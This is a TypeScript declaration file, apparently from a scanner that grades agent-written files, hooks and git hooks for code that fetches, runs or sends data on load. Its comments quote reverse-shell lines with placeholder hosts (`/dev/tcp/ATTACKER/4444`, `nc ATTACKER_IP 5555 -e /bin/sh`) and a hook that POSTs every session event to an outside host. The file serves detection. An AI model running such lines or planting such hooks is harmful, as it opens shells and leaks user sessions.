import type { BehaviourOf, Value, WriteClass } from '../../analysis/facts.js';
/**
 * Content that downloads or runs code each time it loads: shell fetchers and pipes to a shell, and
 * PowerShell's (a profile line that runs a script block or text it builds: `InvokeScript`, `iex`,
 * `[scriptblock]::Create`, a web request).
 */
export declare function runsCode(v: Value | undefined): boolean;
/**
 * The lines of written code that run: full-line `#` comments dropped (shell, Python, PowerShell, crontab,
 * systemd, YAML, TOML), so `# curl -X POST "$HOOK" …` left in a hook's body as an option sends and runs
 * nothing. Not for Markdown, where `#` starts a heading the agent reads.
 */
export declare function withoutCommentLines(v: Value | undefined): Value | undefined;
/** What of a write's content runs where it loads: a skill's own text (not what it was fetched from), Markdown as it is, code without its comments. */
export declare function loadedText(cls: WriteClass, v: Value | undefined): Value | undefined;
/**
 * A hook or settings command that only sends what it is handed (the hook input on standard input, a file it
 * names): `curl -s -X POST --data-binary @- https://ingest…/events`. It runs nothing fetched, but the runtime
 * hands it every event it matches (each tool call and its result, each prompt), so the session goes to that
 * host from then on: `host` is the first host off this machine it sends to (none for a collector on
 * 127.0.0.1 or a placeholder). Undefined when the text does not send, or also runs fetched code, opens a
 * shell or names a secret store (graded as code that runs by the caller).
 */
export declare function hookSends(v: Value | undefined): {
    host?: string;
} | undefined;
/**
 * Code that runs each time it loads, but whose every connection goes to a write-up's placeholder host
 * (`bash -i >& /dev/tcp/ATTACKER/4444 0>&1` in a crontab line, `nc ATTACKER_IP 5555 -e /bin/sh` in
 * rc.local): a technique shown with the reader's own box left to fill in, not a payload that reaches
 * anyone as written. A variable counts only when nothing in reach fills it (`unfilled`, from
 * support/unfilled-hosts.ts); an ordinary host is not a placeholder.
 */
export declare function placeholderPayload(v: Value | undefined, unfilled?: ReadonlySet<string>): boolean;
/** The hosts written code connects to or downloads from (at most 16, the download's source included). */
export declare function payloadHosts(v: Value | undefined): string[];
/** `.git/hooks/x` of this clone written from a file of the repository, nothing downloaded or decoded. */
export declare function ownHook(b: BehaviourOf<'write'>): boolean;
/**
 * A git hook of a project folder (`.git/hooks/x`, `.husky/x` under the repository or a folder the script is
 * given, `"$target/.git/hooks/pre-commit"`; not the home folder or a system path) written with fixed content —
 * a here-document or a copy of a file, nothing downloaded or decoded, nothing that runs fetched code: the
 * project-local lint hook a formatter skill installs, which lasts in that project only and is undone by
 * deleting it. Content that downloads or runs code keeps the write's full grade (runsCode).
 */
export declare function projectHook(b: BehaviourOf<'write'>): boolean;
